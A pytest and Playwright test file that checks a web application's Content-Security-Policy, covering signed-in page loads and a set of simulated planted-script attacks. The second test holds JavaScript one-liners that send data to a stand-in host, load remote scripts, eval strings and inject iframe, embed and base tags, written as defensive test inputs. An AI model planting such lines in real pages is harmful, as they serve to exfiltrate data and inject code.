"""The Content-Security-Policy in a real browser: no page of ours breaks it, and it stops what a page must not do."""

import pytest
from playwright.sync_api import Browser

from data.sample import people
from tests import browser as b
from tests.e2e.test_pages import pages_of
from tests.server import Server

pytestmark = [b.needs_browser, pytest.mark.xdist_group("browser")]

_WATCH = """window.broken = [];
document.addEventListener('securitypolicyviolation', (e) => window.broken.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));"""

STAFF = {"city_officer": people.STAFF[2], "administrator": people.STAFF[3]}


@pytest.mark.parametrize("persona", ["enterprise", *STAFF])
def test_no_page_breaks_the_policy(server: Server, chromium: Browser, persona: str) -> None:
    context = b.window(chromium)
    context.add_init_script(_WATCH)
    page = context.new_page()
    if persona == "enterprise":
        b.sign_in_enterprise(page, server.url, people.FILERS[0])
    else:
        b.sign_in_local(page, server.url, STAFF[persona].username)
    broken = {}
    for path, title in pages_of(persona):
        page.goto(f"{server.url}/{path}")
        b.settled(page)
        page.wait_for_timeout(300)
        if found := page.evaluate("window.broken"):
            broken[title] = found
    context.close()
    assert not broken


def test_the_policy_stops_what_a_planted_script_would_do(server: Server, chromium: Browser) -> None:
    context = b.window(chromium)
    context.add_init_script(_WATCH)
    page = context.new_page()
    page.goto(f"{server.url}/auth/login")
    attacks = {
        "connect-src": "fetch('http://127.0.0.2:9/stolen').catch(() => 0)",
        "img-src": "new Image().src = 'http://127.0.0.2:9/stolen'",
        "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), {src: 'http://127.0.0.2:9/x.js'}))",
        "script-src": "void setTimeout('window.ran = 1', 0)",
        "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://127.0.0.2:9/'}))",
        "object-src": "document.body.append(Object.assign(document.createElement('embed'), {src: '/auth/login'}))",
        "base-uri": "document.head.append(Object.assign(document.createElement('base'), {href: 'http://127.0.0.2:9/'}))",
    }
    for attack in attacks.values():
        page.evaluate(attack)
    page.wait_for_timeout(1000)
    assert page.evaluate("window.ran") is None
    stopped = {each.split(" ")[0] for each in page.evaluate("window.broken")}
    context.close()
    assert set(attacks) <= stopped, stopped
